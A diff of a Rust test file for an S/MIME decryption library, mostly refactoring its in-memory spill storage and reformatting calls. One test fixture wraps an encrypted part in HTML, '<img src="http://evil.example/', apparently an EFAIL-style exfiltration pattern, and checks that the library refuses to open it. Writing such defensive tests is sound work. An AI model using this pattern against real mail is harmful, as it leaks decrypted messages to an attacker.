@@ -12,16 +12,14 @@
 
 mod support;
 
+use std::cell::RefCell;
 use std::io::{self, Cursor, Read, Seek, SeekFrom, Write};
 use std::rc::Rc;
 use std::sync::atomic::{AtomicU32, Ordering};
-use std::sync::{Arc, Mutex};
 
 use kakitome_cms::{CompressedData, Keys, UnlockPolicy, oid};
 use kakitome_crypto::{OpenError, Opener, Wrapped, Zeroizing};
-use kakitome_smime::{
-    Backing, Covers, InMemory, LayerKind, LayerState, Limits, Policy, Report, Spill, decrypt, open_encrypted,
-};
+use kakitome_smime::{Backing, Covers, InMemory, LayerKind, LayerState, Limits, Policy, Report, Spill, decrypt, open_encrypted};
 use support::cast::{ALICE, EVE, parts};
 use support::envelope::{CBC, GCM, Reader};
 use support::{Authority, NOW, TEXT, clear, has, ids, mail, opaque};
@@ -87,13 +85,7 @@ fn containers_are_known_by_type_name_or_content() {
         let report = bob.judge(&root, &mail(ALICE, &changed));
         assert_eq!(report.verdict().word(), "valid", "{header}: {:?}", ids(&report));
         assert_eq!(has(&report, "smime.type-differs"), header.contains("signed-data"));
-        let inside = decrypt(
-            &mut Cursor::new(mail(ALICE, &changed)),
-            &bob.keys(),
-            &UnlockPolicy::default(),
-            &Limits::default(),
-            &InMemory,
-        );
+        let inside = decrypt(&mut Cursor::new(mail(ALICE, &changed)), &bob.keys(), &UnlockPolicy::default(), &Limits::default(), &InMemory);
         assert!(inside.is_ok_and(|inside| inside.is_authenticated()), "{header}");
     }
 }
@@ -167,9 +159,8 @@ fn m02_m03_encryption_beside_other_parts_is_not_opened() {
     let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
     let asked = Asked(AtomicU32::new(0), bob.person.certificate.spki().to_vec());
     let keys = Keys::new().own(&bob.person.certificate, &asked);
-    let judge = |entity: &str| {
-        open_encrypted(&mut Cursor::new(mail(EVE, entity)), &root.evidence(), &Policy::default(), NOW, &keys, &InMemory)
-    };
+    let judge =
+        |entity: &str| open_encrypted(&mut Cursor::new(mail(EVE, entity)), &root.evidence(), &Policy::default(), NOW, &keys, &InMemory);
     let eve = root.person(EVE);
     let mixed = parts("mixed", &[html, &secret, "Content-Type: text/html\r\n\r\n\">"]);
     let attached = format!("Content-Type: message/rfc822\r\n\r\n{}", String::from_utf8(bob.mail(ALICE, CBC, TEXT)).unwrap());
@@ -232,27 +223,30 @@ fn decrypt_takes_signatures_and_compression_around_it_off() {
 
 /// Places whose bytes can be looked at afterwards.
 #[derive(Clone, Default)]
-struct Seen(Arc<Mutex<Vec<Rc<Mutex<Cursor<Vec<u8>>>>>>>);
+struct Seen(Rc<RefCell<Vec<Bytes>>>);
 
-struct Place(Rc<Mutex<Cursor<Vec<u8>>>>);
+/// What one place has.
+type Bytes = Rc<RefCell<Cursor<Vec<u8>>>>;
+
+struct Place(Bytes);
 
 impl Spill for Seen {
     fn create(&self) -> io::Result<Box<dyn Backing>> {
-        let place = Rc::new(Mutex::new(Cursor::new(Vec::new())));
-        self.0.lock().unwrap().push(Rc::clone(&place));
+        let place = Bytes::default();
+        self.0.borrow_mut().push(Rc::clone(&place));
         Ok(Box::new(Place(place)))
     }
 }
 
 impl Read for Place {
     fn read(&mut self, out: &mut [u8]) -> io::Result<usize> {
-        self.0.lock().unwrap().read(out)
+        self.0.borrow_mut().read(out)
     }
 }
 
 impl Write for Place {
     fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
-        self.0.lock().unwrap().write(bytes)
+        self.0.borrow_mut().write(bytes)
     }
 
     fn flush(&mut self) -> io::Result<()> {
@@ -262,7 +256,7 @@ impl Write for Place {
 
 impl Seek for Place {
     fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
-        self.0.lock().unwrap().seek(to)
+        self.0.borrow_mut().seek(to)
     }
 }
 
@@ -277,10 +271,10 @@ fn m12_plaintext_leaves_memory_as_ciphertext_only() {
         let mut source = Cursor::new(mail(ALICE, &entity));
         let report = open_encrypted(&mut source, &root.evidence(), &Policy::default(), NOW, &bob.keys(), &spill).unwrap();
         assert_eq!(report.verdict().word(), "valid", "{:?}", ids(&report));
-        let places = spill.0.lock().unwrap();
+        let places = spill.0.borrow();
         assert!(!places.is_empty(), "it does not fit into memory");
         for place in places.iter() {
-            let bytes = place.lock().unwrap();
+            let bytes = place.borrow();
             assert!(bytes.get_ref().len() > 1_000_000);
             let encoded = support::base64(b"Payment order 4711 in this");
             let plain = [&b"Payment"[..], b"Content-Type", &encoded.as_bytes()[..32]];
